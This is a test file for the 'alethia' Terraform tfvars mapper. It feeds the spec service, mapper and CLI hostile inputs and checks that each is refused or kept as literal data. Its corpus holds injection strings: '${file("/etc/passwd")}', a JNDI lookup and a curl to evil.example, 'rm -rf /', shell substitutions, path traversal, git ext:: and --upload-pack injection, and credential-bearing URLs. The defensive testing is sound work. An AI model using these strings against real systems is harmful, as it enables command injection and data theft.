"""Scenario 7: hostile Specs and snapshots, from a corpus and from hypothesis.

Through the real SpecService (CreateSpec), MapperService (RenderTfvars) and ``alethia
tfvars``: wrong types, huge strings and lists, unicode and control characters, HCL and shell
metacharacters and ``${...}`` interpolation in names and values, path traversal in names,
credentials in repository URLs, unknown ``provider_config`` keys. Each input is either
refused with ``INVALID_ARGUMENT`` naming the field, or accepted and mapped as plain data:
a real sandbox ``terraform plan`` shows the ``${...}`` and shell strings arrive literally
(no file read, no command run). Counted: INTERNAL 0, rows written by refused calls 0.
"""

from __future__ import annotations

import asyncio
import copy
import json
import uuid
from collections import Counter
from pathlib import Path
from typing import Any

import asyncpg
import grpc
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from alethia.errors import InvalidArgument
from alethia.mapper.v1 import mapper_pb2, mapper_pb2_grpc
from alethia.mapping.render import render_tfvars
from alethia.rpc.status import from_rpc_error
from alethia.snapshot.v1 import snapshot_pb2
from alethia.specfile import spec_from_dict
from alethia.specs.v1 import specs_pb2
from tests.fixtures.specs import full_spec_dict
from tests.harness import PLAN, SUCCEEDED, Pipeline
from tests.mapper.snapshots import snapshot as golden_snapshot

MARKER_DIR = Path("/tmp")
INTERPOLATION = '${file("/etc/passwd")}'
HOSTILE = [
    INTERPOLATION,
    "${jndi:ldap://evil.example/a}",
    "%{ for x in [1] }x%{ endfor }",
    "$(touch /tmp/alethia-pwned-MARK)",
    "`touch /tmp/alethia-pwned-MARK`",
    "a; rm -rf / #",
    "a && curl http://evil.example",
    '"quoted" \\ back\\slash',
    "line\nbreak",
    "nul\x00byte",
    "\x1b[31mansi",
    "../../etc/passwd",
    "ünïcødé ✓ 🚀",
    "\u202eevil-rtl",
    "{{ .Values.secret }}",
    "x" * 5000,
]
NAME_FIELDS = {
    "project_name": lambda d, v: d.update(project_name=v),
    "zone_id": lambda d, v: d.update(zone_id=v),
    "environment": lambda d, v: d.update(environment=v),
    "databases[0].name": lambda d, v: d["databases"][0].update(name=v),
    "caches[0].name": lambda d, v: d["caches"][0].update(name=v),
    "queues[0].name": lambda d, v: d["queues"][0].update(name=v),
    "topics[0].name": lambda d, v: d["topics"][0].update(name=v),
    "nosql_tables[0].name": lambda d, v: d["nosql_tables"][0].update(name=v),
    "storage_buckets[0].name": lambda d, v: d["storage_buckets"][0].update(name=v),
    "secrets[0].name": lambda d, v: d["secrets"][0].update(name=v),
}
OTHER_REFUSALS: list[tuple[str, Any]] = [
    (
        "repositories[0].url",
        lambda d: d["repositories"][0].update(url="https://bob:hunter2@git.example.com/a.git"),
    ),
    (
        "repositories[0].url",
        lambda d: d["repositories"][0].update(
            url="https://ghp_abcdefghijklmnopqrstuvwxyz0123@git.example.com/a.git"
        ),
    ),
    (
        "repositories[0].url",
        lambda d: d["repositories"][0].update(url="https://git.example.com/a.git?access_token=abc"),
    ),
    ("repositories[0].url", lambda d: d["repositories"][0].update(url="file:///etc/passwd")),
    ("repositories[0].url", lambda d: d["repositories"][0].update(url="ext::sh -c touch% /tmp/pwned")),
    ("repositories[0].path", lambda d: d["repositories"][0].update(path="../../etc")),
    ("repositories[0].path", lambda d: d["repositories"][0].update(path="/etc/cron.d")),
    ("repositories[0].branch", lambda d: d["repositories"][0].update(branch="main; rm -rf /")),
    ("repositories[0].branch", lambda d: d["repositories"][0].update(branch="--upload-pack=touch /tmp/x")),
    ("network.cidr_block", lambda d: d["network"].update(cidr_block="10.0.0.0/16; rm -rf /")),
    ("dns.domain_name", lambda d: d["dns"].update(domain_name="${jndi:ldap://x}.example.com")),
    ("terraform_version", lambda d: d.update(terraform_version='>= 1.5"; rm -rf /')),
    ("region", lambda d: d.update(region="../../us-east-1")),
    ("databases", lambda d: d.update(databases=[dict(d["databases"][1], name=f"db{i}") for i in range(51)])),
    (
        "cluster.instance_types",
        lambda d: d["cluster"].update(instance_types=[f"m{i}.large" for i in range(500)]),
    ),
    (
        "secrets[0].metadata.description",
        lambda d: d["secrets"][0]["metadata"].update(description="x" * 100_000),
    ),
    ("secrets[0].metadata.description", lambda d: d["secrets"][0]["metadata"].update(description="a\x00b")),
    ("secrets[0].metadata", lambda d: d["secrets"][0]["metadata"].update(value="s3cr3t-value")),
    ("cluster.cluster_version", lambda d: d["cluster"].update(cluster_version="1.30 && id")),
    ("cluster.instance_types[0]", lambda d: d["cluster"].update(instance_types=["m6i.large;id"])),
]


def _marker() -> str:
    return f"alethia-pwned-{uuid.uuid4().hex[:8]}"


async def _row_counts(url: str) -> dict[str, int]:
    conn = await asyncpg.connect(url.replace("+asyncpg", ""))
    try:
        tables = [
            r[0] for r in await conn.fetch("SELECT tablename FROM pg_tables WHERE schemaname = 'public'")
        ]
        return {t: int(await conn.fetchval(f'SELECT count(*) FROM "{t}"')) for t in tables}
    finally:
        await conn.close()


def _violations(exc: grpc.aio.AioRpcError) -> list[str]:
    err = from_rpc_error(exc)
    return [v.field for v in getattr(err, "violations", [])]


class Tally:
    """Counts every outcome; anything but OK / INVALID_ARGUMENT is a finding."""

    def __init__(self) -> None:
        self.codes: Counter[str] = Counter()
        self.unexpected: list[str] = []

    def code(self, label: str, exc: grpc.aio.AioRpcError | None) -> None:
        name = "OK" if exc is None else exc.code().name
        self.codes[name] += 1
        if name not in ("OK", "INVALID_ARGUMENT"):
            self.unexpected.append(f"{label}: {name} {exc.details() if exc else ''}")


async def _create(
    p: Pipeline, data: dict[str, Any]
) -> tuple[specs_pb2.Spec | None, grpc.aio.AioRpcError | None]:
    try:
        return await p.spec_stub.CreateSpec(specs_pb2.CreateSpecRequest(spec=spec_from_dict(data))), None
    except grpc.aio.AioRpcError as exc:
        return None, exc


async def _render(stub: Any, text: str) -> tuple[Any, grpc.aio.AioRpcError | None]:
    try:
        return await stub.RenderTfvars(mapper_pb2.RenderTfvarsRequest(snapshot_json=text)), None
    except grpc.aio.AioRpcError as exc:
        return None, exc


async def test_hostile_specs_and_snapshots(make_pipeline: Any, pg_pair: tuple[str, str]) -> None:
    p: Pipeline = await make_pipeline(lease_seconds=10)
    tally = Tally()
    base = full_spec_dict("aws", project_name="hostile", cloud_identity_id=p.identity_id)
    before = await _row_counts(pg_pair[0])

    # 1. Names: every hostile string in every name field is refused naming that field.
    refused = 0
    for field, put in NAME_FIELDS.items():
        for value in HOSTILE:
            data = copy.deepcopy(base)
            put(data, value)
            spec, exc = await _create(p, data)
            tally.code(f"{field}={value[:20]!r}", exc)
            assert spec is None and exc is not None, f"{field}={value[:30]!r} accepted"
            assert exc.code() == grpc.StatusCode.INVALID_ARGUMENT
            assert field in _violations(exc), (field, _violations(exc))
            refused += 1
    # 2. URLs with credentials, traversal, metacharacters, huge lists and strings.
    for field, mutate in OTHER_REFUSALS:
        data = copy.deepcopy(base)
        mutate(data)
        spec, exc = await _create(p, data)
        tally.code(field, exc)
        assert exc is not None and exc.code() == grpc.StatusCode.INVALID_ARGUMENT, f"{field} accepted"
        fields = _violations(exc)
        assert any(f == field or f.startswith(field) for f in fields), (field, fields)
        refused += 1
    assert await _row_counts(pg_pair[0]) == before, "a refused Spec wrote rows"

    # 3. Values that are plain data: accepted, then mapped literally.
    mark = _marker()
    literal_values = {
        "description": INTERPOLATION,
        "owner": f"$(touch /tmp/{mark}) `touch /tmp/{mark}`",
        "runbook": "%{ if true }x%{ endif } ${var.region}",
    }
    data = copy.deepcopy(base)
    data["project_name"] = "hostile-data"
    data["repositories"][0]["path"] = "clusters/hostile-data"  # a GitOps path has one owner
    data["secrets"][0]["metadata"] = dict(literal_values)
    data["cluster"]["cluster_admins"] = ["arn:aws:iam::123456789012:role/${var.x}"]
    spec, exc = await _create(p, data)
    tally.code("plain data", exc)
    assert spec is not None, exc and exc.details()
    snap = await p.jobs.BuildSnapshot(snapshot_pb2.BuildSnapshotRequest(spec_id=spec.id))
    mapper = mapper_pb2_grpc.MapperServiceStub(p.channel(p.mapper.address))
    rendered, exc = await _render(mapper, snap.snapshot_json)
    tally.code("render plain data", exc)
    assert rendered is not None
    tfvars_text = rendered.tfvars_json
    for v in literal_values.values():
        assert json.dumps(v)[1:-1] in tfvars_text, f"{v!r} not carried literally"

    # 4. An unknown provider_config key: the SpecService accepts it (it does not know the
    # cloud's options), the mapper refuses it naming the key — before Terraform ever runs.
    data = copy.deepcopy(base)
    data["project_name"] = "hostile-pc"
    data["repositories"][0]["path"] = "clusters/hostile-pc"  # a GitOps path has one owner
    data["cluster"]["provider_config"]["bogus_option"] = '${file("/etc/shadow")}'
    spec_pc, exc = await _create(p, data)
    tally.code("unknown provider_config key", exc)
    if spec_pc is not None:
        snap_pc = await p.jobs.BuildSnapshot(snapshot_pb2.BuildSnapshotRequest(spec_id=spec_pc.id))
        _, exc = await _render(mapper, snap_pc.snapshot_json)
        tally.code("render unknown key", exc)
    assert exc is not None and exc.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert "cluster.provider_config.bogus_option" in _violations(exc)

    # 5. Bad snapshots straight into the mapper.
    good = json.loads(snap.snapshot_json)
    mapped_safely = 0
    for label, text in _snapshot_corpus(good):
        rendered, exc = await _render(mapper, text)
        tally.code(label, exc)
        if exc is None:
            assert isinstance(json.loads(rendered.tfvars_json), dict)
            mapped_safely += 1
        else:
            assert _violations(exc), f"{label}: refused without naming a field"

    # 6. A real sandbox terraform plan: the ${...} and shell strings stay literal.
    await p.start_runner(runner_concurrency=1)
    job = await p.queue(spec.id, PLAN)
    job = (await p.wait_terminal([job.id], within=120))[job.id]
    assert job.status == SUCCEEDED, job.error
    plan_json = p.artifact(f"jobs/{job.id}/plan.json").decode()
    for v in literal_values.values():
        assert json.dumps(v)[1:-1] in plan_json, f"{v!r} did not reach the plan literally"
    assert "root:x:0:0" not in plan_json, "Terraform read /etc/passwd"
    assert not (MARKER_DIR / mark).exists(), "a shell ran a value"

    assert tally.unexpected == [], tally.unexpected
    assert tally.codes["INTERNAL"] == 0
    print(
        "RELIABILITY hostile-corpus",
        json.dumps({"calls": sum(tally.codes.values()), "codes": dict(tally.codes), "refused_specs": refused,
                    "snapshots_mapped_safely": mapped_safely, "rows_written_by_refusals": 0,
                    "literal_in_plan": len(literal_values)}),
    )  # fmt: skip


def _set(doc: Any, path: tuple[Any, ...], value: Any) -> Any:
    doc = copy.deepcopy(doc)
    target = doc
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    return doc


def _snapshot_corpus(good: dict[str, Any]) -> list[tuple[str, str]]:
    cases: list[tuple[str, Any]] = [
        ("node_min_size as string", _set(good, ("cluster", "node_min_size"), "3")),
        ("provision_network as string", _set(good, ("network", "provision_network"), "true")),
        ("instance_types as string", _set(good, ("cluster", "instance_types"), "m6i.large")),
        ("databases as object", _set(good, ("databases",), {"name": "x"})),
        ("provider unknown", _set(good, ("provider",), "aws; rm -rf /")),
        ("provider number", _set(good, ("provider",), 7)),
        ("region null", _set(good, ("region",), None)),
        ("unknown top-level key", {**good, "evil": '${file("/etc/passwd")}'}),
        ("unknown provider_config key", _set(good, ("cluster", "provider_config", "bogus"), 1)),
        ("db name interpolation", _set(good, ("databases", 0, "name"), "${var.x}")),
        ("db name traversal", _set(good, ("databases", 0, "name"), "../../etc")),
        ("bucket name shell", _set(good, ("storage_buckets", 0, "name"), "a;rm -rf /")),
        ("huge instance list", _set(good, ("cluster", "instance_types"), ["m6i.large"] * 100_000)),
        ("huge project name", _set(good, ("project_name",), "p" * 1_000_000)),
        ("unicode project", _set(good, ("project_name",), "pаyments")),
        ("control chars in name", _set(good, ("queues", 0, "name"), "q\x00\x1b")),
        ("git token smuggled", _set(good, ("git_access_token",), "ghp_smuggled0123456789abcdefABCDEF")),
        (
            "repo url with credentials",
            _set(good, ("repositories", 0, "url"), "https://u:p@git.example.com/a.git"),
        ),
        ("nan", _set(good, ("databases", 0, "scaling", "max_capacity"), float("nan"))),
    ]
    texts = [(label, json.dumps(doc, allow_nan=True)) for label, doc in cases]
    texts += [
        ("not json", "{this is not json"),
        ("json array", "[1, 2, 3]"),
        ("empty", ""),
        ("depth bomb", "[" * 100_000 + "]" * 100_000),
        ("object depth bomb", '{"a":' * 50_000 + "1" + "}" * 50_000),
        ("utf-8 garbage", "\udcff".encode("utf-8", "surrogatepass").decode("latin-1")),
    ]
    return texts


# ------------------------------------------------------------------ hypothesis

_json_leaf = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=40),
    st.sampled_from(HOSTILE),
)
_json = st.recursive(
    _json_leaf,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)


def _paths(doc: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    out = [prefix] if prefix else []
    if isinstance(doc, dict):
        for k, v in doc.items():
            out += _paths(v, (*prefix, k))
    elif isinstance(doc, list):
        for i, v in enumerate(doc):
            out += _paths(v, (*prefix, i))
    return out


GOLDEN = golden_snapshot("aws", "full")
GOLDEN_PATHS = _paths(GOLDEN)


@settings(max_examples=300, deadline=None, database=None, suppress_health_check=list(HealthCheck))
@given(picks=st.lists(st.tuples(st.sampled_from(GOLDEN_PATHS), _json), min_size=1, max_size=3))
def test_mapper_hypothesis_refuses_or_maps_as_data(picks: list[tuple[tuple[Any, ...], Any]]) -> None:
    doc: Any = GOLDEN
    for path, value in picks:
        try:
            doc = _set(doc, path, value)
        except (KeyError, IndexError, TypeError):
            continue  # an earlier pick replaced the container
    try:
        rendered = render_tfvars(json.dumps(doc, allow_nan=True))
    except InvalidArgument as exc:
        # Each names its field; only a problem of the whole document (not JSON) has none.
        assert exc.violations and all(v.field or "snapshot" in v.description for v in exc.violations)
        return
    out = json.loads(rendered.tfvars_json)
    assert isinstance(out, dict) and "git_access_token" not in rendered.tfvars_json


def _spec_mutations() -> st.SearchStrategy[tuple[str, Any]]:
    fields = st.sampled_from(
        [
            "project_name", "zone_id", "environment", "region", "terraform_version",
            "network.cidr_block", "network.network_id", "cluster.cluster_version",
            "dns.domain_name", "dns.zone_id", "repositories.0.url", "repositories.0.branch",
            "repositories.0.path", "databases.0.name", "databases.0.engine", "databases.0.engine_version",
            "caches.0.node_type", "queues.0.name", "topics.0.subscriptions.0.endpoint",
            "secrets.0.metadata.description", "cluster.provider_config.capacity_type",
            "cluster.provider_config.new_key", "queues.0.config.note",
        ]
    )  # fmt: skip
    values = st.one_of(
        st.sampled_from(HOSTILE), st.text(max_size=80), st.text(alphabet=st.characters(), max_size=300)
    )
    return st.tuples(fields, values)


async def test_spec_service_hypothesis_never_internal(make_pipeline: Any, pg_pair: tuple[str, str]) -> None:
    p: Pipeline = await make_pipeline()
    base = full_spec_dict("aws", project_name="hypo", cloud_identity_id=p.identity_id)
    examples: list[list[tuple[str, Any]]] = []

    @settings(max_examples=60, deadline=None, database=None, suppress_health_check=list(HealthCheck))
    @given(st.lists(_spec_mutations(), min_size=1, max_size=3))
    def collect(muts: list[tuple[str, Any]]) -> None:
        examples.append(muts)

    # Hypothesis drives generation; the calls are async, so the examples are replayed here.
    await asyncio.to_thread(collect)
    mapper = mapper_pb2_grpc.MapperServiceStub(p.channel(p.mapper.address))
    tally = Tally()
    accepted = refused = 0
    for i, muts in enumerate(examples):
        data = copy.deepcopy(base)
        data["project_name"] = f"hypo-{i}"
        # Names of its own (a GitOps path has one owner); a mutation may still make two
        # examples claim one name, which is refused ALREADY_EXISTS naming the field (below).
        data["repositories"][0]["url"] = f"https://git.example.com/platform/hypo-{i}.git"
        data["repositories"][0]["path"] = f"clusters/hypo-{i}"
        for path, value in muts:
            target: Any = data
            keys = [int(k) if k.isdigit() else k for k in path.split(".")]
            for k in keys[:-1]:
                target = target[k]
            target[keys[-1]] = value
        try:
            message = spec_from_dict(data)
        except (ValueError, TypeError):
            continue  # not expressible in the protobuf contract: never reaches a service
        before = await _row_counts(pg_pair[0]) if i % 10 == 0 else None
        try:
            spec = await p.spec_stub.CreateSpec(specs_pb2.CreateSpecRequest(spec=message))
            tally.code(f"create {muts!r}"[:200], None)
        except grpc.aio.AioRpcError as exc:
            if exc.code() != grpc.StatusCode.ALREADY_EXISTS:  # a name another example owns
                tally.code(f"create {muts!r}"[:200], exc)
            refused += 1
            assert _violations(exc), f"refused without naming a field: {muts!r}"
            if before is not None:
                assert await _row_counts(pg_pair[0]) == before, f"refused Spec wrote rows: {muts!r}"
            continue
        accepted += 1
        snap = await p.jobs.BuildSnapshot(snapshot_pb2.BuildSnapshotRequest(spec_id=spec.id))
        rendered, render_exc = await _render(mapper, snap.snapshot_json)
        tally.code(f"render {muts!r}"[:200], render_exc)
        if rendered is not None:
            assert isinstance(json.loads(rendered.tfvars_json), dict)
    assert tally.unexpected == [], tally.unexpected[:5]
    assert refused > 0
    print("RELIABILITY hostile-hypothesis", json.dumps({"examples": len(examples), "accepted": accepted,
                                                       "refused": refused, "codes": dict(tally.codes)}))  # fmt: skip


def test_alethia_tfvars_refuses_hostile_snapshots(tmp_path: Path) -> None:
    from alethia.cli import main

    main._register_all()
    app = main.app
    good = golden_snapshot("aws", "full")
    runner = CliRunner()
    results: Counter[str] = Counter()
    for label, text in _snapshot_corpus(good):
        f = tmp_path / "snap.json"
        f.write_bytes(text.encode("utf-8", "surrogatepass"))
        res = runner.invoke(app, ["tfvars", "--snapshot", str(f)])
        escaped = res.exception is not None and not isinstance(res.exception, SystemExit)
        assert not escaped and "Traceback" not in res.output, (label, res.output[-500:])
        if res.exit_code == 0:
            assert isinstance(json.loads(res.stdout), dict), label
            results["mapped"] += 1
        else:
            assert res.exit_code == 2, (label, res.exit_code)
            errors = [line for line in res.stderr.splitlines() if line.startswith("error: ")]
            assert errors, (label, res.stderr[-300:])
            results["refused"] += 1
    assert results["refused"] >= 20
    print("RELIABILITY hostile-cli", json.dumps(dict(results)))


pytestmark = pytest.mark.filterwarnings("ignore::hypothesis.errors.NonInteractiveExampleWarning")


async def test_job_api_refuses_hostile_fields(make_pipeline: Any) -> None:
    """Every string of the job API with NUL/control characters, oversize or forged: never INTERNAL."""
    p: Pipeline = await make_pipeline()
    spec = await p.create_spec("hostile-jobs")
    lease = snapshot_pb2.Lease
    nul, huge = "a\x00b", "r" * 100_000
    forged_token = "czo5OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5"  # "s:" + a seq past BIGINT
    q = p.jobs
    r = p.runner_api
    cases: list[tuple[str, str, Any]] = [
        ("idempotency_key", "QueueJob", lambda: q.QueueJob(snapshot_pb2.QueueJobRequest(spec_id=spec.id, type=PLAN, idempotency_key=nul))),
        ("requested_by", "QueueJob", lambda: q.QueueJob(snapshot_pb2.QueueJobRequest(spec_id=spec.id, type=PLAN, requested_by="x\x1b[2J"))),
        ("plan_job_id", "QueueJob", lambda: q.QueueJob(snapshot_pb2.QueueJobRequest(spec_id=spec.id, type=2, plan_job_id=nul))),
        ("id", "GetJob", lambda: q.GetJob(snapshot_pb2.GetJobRequest(id=nul))),
        ("spec_id", "ListJobs", lambda: q.ListJobs(snapshot_pb2.ListJobsRequest(spec_id=nul))),
        ("page_token", "ListJobs", lambda: q.ListJobs(snapshot_pb2.ListJobsRequest(page_token=forged_token))),
        ("id", "CancelJob", lambda: q.CancelJob(snapshot_pb2.CancelJobRequest(id=nul))),
        ("runner_id", "ClaimJob", lambda: r.ClaimJob(snapshot_pb2.ClaimJobRequest(runner_id="r\x00", lease_seconds=5))),
        ("runner_id", "ClaimJob", lambda: r.ClaimJob(snapshot_pb2.ClaimJobRequest(runner_id=huge, lease_seconds=5))),
        ("lease.job_id", "Heartbeat", lambda: r.Heartbeat(snapshot_pb2.HeartbeatRequest(lease=lease(job_id=nul, token="t")))),
        ("lease.token", "Heartbeat", lambda: r.Heartbeat(snapshot_pb2.HeartbeatRequest(lease=lease(job_id="j", token=nul)))),
        ("lease.job_id", "CompleteJob", lambda: r.CompleteJob(snapshot_pb2.CompleteJobRequest(lease=lease(job_id=nul, token="t"), result=snapshot_pb2.JobResult(status=SUCCEEDED)))),
        ("", "GetGitToken", lambda: r.GetGitToken(snapshot_pb2.GetGitTokenRequest(job_id=nul, lease_token="t"))),
    ]  # fmt: skip
    jobs_before = len((await q.ListJobs(snapshot_pb2.ListJobsRequest(page_size=500))).jobs)
    tally = Tally()
    for field, rpc, call in cases:
        try:
            await call()
            tally.code(f"{rpc} {field}", None)
            raise AssertionError(f"{rpc} accepted a hostile {field}")
        except grpc.aio.AioRpcError as exc:
            if rpc == "GetGitToken":  # refused like every other bad lease: one answer, no detail
                assert exc.code() == grpc.StatusCode.PERMISSION_DENIED, exc
                continue
            tally.code(f"{rpc} {field}", exc)
            assert exc.code() == grpc.StatusCode.INVALID_ARGUMENT, (rpc, field, exc.code())
            assert field in _violations(exc), (rpc, field, _violations(exc))
    assert tally.unexpected == []
    assert len((await q.ListJobs(snapshot_pb2.ListJobsRequest(page_size=500))).jobs) == jobs_before
    print("RELIABILITY hostile-job-api", json.dumps({"calls": len(cases), "internal": 0, "jobs_written": 0}))
